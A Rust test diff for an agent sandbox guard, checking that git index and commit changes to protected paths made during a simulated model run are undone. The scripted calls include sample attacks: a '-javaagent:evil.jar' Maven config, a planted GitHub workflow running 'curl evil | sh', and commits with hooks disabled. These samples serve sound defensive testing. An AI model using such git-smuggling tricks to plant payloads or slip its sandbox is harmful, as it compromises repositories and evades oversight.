@@ -195,3 +195,112 @@ async fn hidden_directories_tell_neither_cat_nor_stat_anything() {
     assert!(needed.success(), "{}", needed.render());
     let _ = std::fs::remove_file(&planted);
 }
+
+/// The undo restored the work tree, but a protected path staged (`git add`)
+/// before it, or committed by a build script, stayed in the index and HEAD,
+/// from where the next checkout, pull or push put it in place outside the
+/// sandbox. The sandbox now compares the repository's index and refs after
+/// the run: a protected path added, changed or removed there is undone
+/// (index and refs restored) and the call fails, naming it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_protected_path_staged_or_committed_in_a_run_is_undone() {
+    if !sandbox_available("a_protected_path_staged_or_committed_in_a_run_is_undone") {
+        return;
+    }
+    use sandbox_support::{committed_repo, head_tree, index_paths, model_runs_with};
+    use tinyagents::middleware::ShellFsGuardMiddleware;
+    let ws = Workspace::new("smuggle");
+    committed_repo(&ws.root);
+    std::fs::create_dir_all(ws.root.join("sub/.mvn")).unwrap();
+    let head_before = sandbox_support::git(&ws.root, &["rev-parse", "HEAD"]);
+    std::fs::write(
+        ws.root.join("stage.sh"),
+        "echo -javaagent:evil.jar > sub/.mvn/jvm.config\ngit add sub/.mvn/jvm.config\necho staged\n",
+    )
+    .unwrap();
+    std::fs::write(
+        ws.root.join("build.sh"),
+        "mkdir -p .github/workflows\n\
+         printf 'on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: \"curl evil | sh\"}]}}\\n' \
+         > .github/workflows/pwn.yml\n\
+         git add .github/workflows/pwn.yml\n\
+         git -c core.hooksPath=/dev/null commit -q -m 'build artefacts'\n\
+         git branch side\n\
+         echo built\n",
+    )
+    .unwrap();
+    let calls = [
+        // the pipeline stages race the undo; the script stages for certain
+        (
+            "",
+            "echo -javaagent:evil.jar > sub/.mvn/jvm.config | git add sub/.mvn/jvm.config",
+        ),
+        ("", "sh stage.sh"),
+        ("", "git commit -q -m update"),
+        ("", "sh build.sh"),
+    ];
+    let texts = model_runs_with(&ws, ShellFsGuardMiddleware::workspace(), &calls).await;
+    assert!(
+        texts[1].contains("`sub/.mvn/jvm.config`") && texts[1].contains("restored the index"),
+        "{texts:#?}"
+    );
+    assert!(
+        texts[3].contains("`.github/workflows/pwn.yml`") && texts[3].contains("restored the index"),
+        "{texts:#?}"
+    );
+    assert!(!ws.root.join(".github").exists(), "the work-tree undo: {texts:?}");
+    let tree = head_tree(&ws.root);
+    assert_eq!(tree, ["hello.txt"], "{texts:#?}");
+    assert!(!index_paths(&ws.root).iter().any(|p| p.contains(".mvn")), "{texts:#?}");
+    assert_eq!(sandbox_support::git(&ws.root, &["rev-parse", "HEAD"]), head_before);
+    let branches = sandbox_support::git(&ws.root, &["branch", "--list", "side"]);
+    assert!(branches.trim().is_empty(), "a branch the run made stayed: {branches}");
+}
+
+/// Siblings: a run that commits ordinary files keeps its commit and its
+/// branch; one that removes a protected path from the index (by a script
+/// the guard cannot read) is undone.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ordinary_commits_stay_and_unstaging_a_protected_path_is_undone() {
+    if !sandbox_available("ordinary_commits_stay_and_unstaging_a_protected_path_is_undone") {
+        return;
+    }
+    use sandbox_support::{committed_repo, git, head_tree, index_paths, model_runs_with};
+    use tinyagents::middleware::ShellFsGuardMiddleware;
+    let ws = Workspace::new("commit-ordinary");
+    committed_repo(&ws.root);
+    std::fs::create_dir_all(ws.root.join(".github/workflows")).unwrap();
+    std::fs::write(ws.root.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
+    git(&ws.root, &["add", "-A"]);
+    git(
+        &ws.root,
+        &["-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "ci"],
+    );
+    std::fs::write(
+        ws.root.join("build.sh"),
+        "echo out > out.txt\ngit add out.txt\ngit -c core.hooksPath=/dev/null commit -q -m out\ngit branch done\necho built\n",
+    )
+    .unwrap();
+    std::fs::write(
+        ws.root.join("unstage.sh"),
+        "git rm -q --cached .github/workflows/ci.yml\necho ok\n",
+    )
+    .unwrap();
+    let calls = [("", "sh build.sh"), ("", "git add . "), ("", "sh unstage.sh")];
+    let texts = model_runs_with(&ws, ShellFsGuardMiddleware::workspace(), &calls).await;
+    assert!(
+        texts[0].starts_with("exit status 0") && texts[0].contains("built"),
+        "{texts:#?}"
+    );
+    assert!(head_tree(&ws.root).iter().any(|p| p == "out.txt"), "{texts:#?}");
+    assert!(
+        !git(&ws.root, &["branch", "--list", "done"]).trim().is_empty(),
+        "{texts:#?}"
+    );
+    assert!(texts[1].starts_with("exit status 0"), "{texts:#?}");
+    assert!(texts[2].contains("`.github/workflows/ci.yml`"), "{texts:#?}");
+    assert!(
+        index_paths(&ws.root).iter().any(|p| p == ".github/workflows/ci.yml"),
+        "{texts:#?}"
+    );
+}
